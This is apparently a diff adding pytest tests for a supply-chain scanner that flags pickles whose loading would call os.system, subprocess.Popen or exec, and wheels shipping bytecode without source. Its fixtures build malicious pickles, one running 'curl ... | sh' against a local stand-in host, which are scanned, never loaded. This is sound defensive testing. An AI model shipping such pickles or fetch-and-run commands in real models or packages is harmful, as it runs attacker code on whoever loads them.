@@ -1,0 +1,98 @@
+"""``pickles``: a shipped pickle is read as what loading it would call, and
+bytecode without its source is compiled code. The pickles here are built with
+``pickle.dumps`` from objects whose ``__reduce__`` names a callable: they are only
+listed by the scanner (``pickletools.genops``), never loaded."""
+
+from __future__ import annotations
+
+import io
+import os
+import pickle
+import subprocess
+import zipfile
+from collections import OrderedDict
+from pathlib import Path
+
+import pytest
+
+from guard.analysis.scan import scan_archive
+from guard.analysis.scan.pickles import pickle_hit
+
+
+class _Calls:
+    """Pickles as a call of ``func`` with ``args`` (what a malicious model holds)."""
+
+    def __init__(self, func: object, *args: object) -> None:
+        self.func, self.args = func, args
+
+    def __reduce__(self) -> tuple[object, tuple[object, ...]]:
+        return self.func, self.args
+
+
+def _torch_like(payload: bytes) -> bytes:
+    buffer = io.BytesIO()
+    with zipfile.ZipFile(buffer, "w") as archive:
+        archive.writestr("model/data.pkl", payload)
+        archive.writestr("model/data/0", b"\0" * 64)
+    return buffer.getvalue()
+
+
+@pytest.mark.parametrize("protocol", [0, 2, 4])
+@pytest.mark.parametrize(
+    "call", [_Calls(os.system, "id"), _Calls(subprocess.Popen, ["id"]), _Calls(exec, "1")]
+)
+def test_a_pickle_that_runs_code_when_loaded(protocol: int, call: _Calls) -> None:
+    data = pickle.dumps(call, protocol=protocol)
+    hit = pickle_hit("pkg/model.pkl", data)
+    assert hit is not None and hit.kind == "pickle-code"
+    assert pickle_hit("pkg/model.pt", _torch_like(data)) is not None
+
+
+def test_pickles_of_plain_data_and_classes_are_quiet() -> None:
+    honest = pickle.dumps({"weights": [0.1, 0.2], "order": OrderedDict(a=1), "path": Path("x")})
+    assert pickle_hit("pkg/model.pkl", honest) is None
+    assert pickle_hit("pkg/model.pt", _torch_like(honest)) is None
+
+
+@pytest.mark.parametrize("data", [b"", b"\x80\x05garbage", b"PK\x03\x04broken", b"(" * 100_000])
+def test_broken_pickles_do_not_crash_the_scan(data: bytes) -> None:
+    assert pickle_hit("pkg/model.pkl", data) is None
+
+
+def _wheel(tmp_path: Path, files: dict[str, bytes]) -> Path:
+    target = tmp_path / "demo-1.0-py3-none-any.whl"
+    with zipfile.ZipFile(target, "w") as archive:
+        for name, data in files.items():
+            archive.writestr(name, data)
+    return target
+
+
+def test_a_wheel_that_ships_a_pickle_which_runs_a_shell_blocks(tmp_path: Path) -> None:
+    model = pickle.dumps(_Calls(os.system, "curl -s http://127.0.0.1:9/x | sh"))
+    files = {"demo/__init__.py": b"", "demo/model.pkl": model}
+    result = scan_archive(_wheel(tmp_path, files), "demo-1.0-py3-none-any.whl")
+    assert result.level == "block"
+    assert any(s.kind == "pickle-code" for s in result.signals)
+
+
+def test_bytecode_without_its_source_is_compiled_code(tmp_path: Path) -> None:
+    code = compile("x = 1\n", "full.py", "exec")
+    import importlib.util
+    import marshal
+
+    pyc = importlib.util.MAGIC_NUMBER + b"\0" * 12 + marshal.dumps(code)
+    alone = {"demo/__init__.py": b"from . import full\n", "demo/full.pyc": pyc}
+    result = scan_archive(_wheel(tmp_path, alone), "demo-1.0-py3-none-any.whl")
+    assert result.level == "block"
+    assert any(s.kind == "compiled-module" and s.file == "demo/full.pyc" for s in result.signals)
+    # a cache of a source the wheel holds is no hidden code, nor a stale cache of
+    # a source that is gone: Python never imports from __pycache__ without it
+    cached = {
+        "demo/__init__.py": b"from . import full\n",
+        "demo/full.py": b"x = 1\n",
+        "demo/__pycache__/full.cpython-311.pyc": pyc,
+        "demo/__pycache__/gone.cpython-311.pyc": pyc,
+    }
+    (tmp_path / "c").mkdir()
+    quiet = scan_archive(_wheel(tmp_path / "c", cached), "demo-1.0-py3-none-any.whl")
+    assert quiet.level == "clean"
